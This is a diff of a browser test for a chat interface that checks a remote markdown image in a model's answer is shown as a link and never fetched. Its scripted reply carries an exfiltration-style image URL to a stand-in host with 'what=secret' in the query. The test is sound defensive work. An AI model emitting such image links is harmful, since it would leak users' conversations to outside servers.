@@ -38,10 +38,10 @@ def test_nothing_in_an_answer_runs(page: Page, scripted: Server, model: Scripted
     assert len(page.context.pages) == 1
 
 
-def test_the_pages_policy_stops_a_remote_image(
+def test_a_remote_image_becomes_a_link_and_is_not_fetched(
     browser: Browser, scripted: Server, model: ScriptedModelServer
 ) -> None:
-    """A thread that names no domains lets answers show images from anywhere: the page's policy does not."""
+    """Its address could carry the conversation away; only hosts the operator named are shown."""
     reached: list[str] = []
 
     def reach(route: Route) -> None:
@@ -54,7 +54,7 @@ def test_the_pages_policy_stops_a_remote_image(
     model.script(Reply("![a chart](https://elsewhere.test/pixel.png?what=secret)\n\nThe end of it."))
     page.goto(scripted.url)
     ask(page, "Is there a chart?")
-    with page.expect_console_message(lambda line: "Content Security Policy" in line.text):
-        assert "The end of it." in answer(page)
+    assert "The end of it." in answer(page)
+    expect(page.get_by_role("log").locator("img")).to_have_count(0)
     assert reached == []
     context.close()
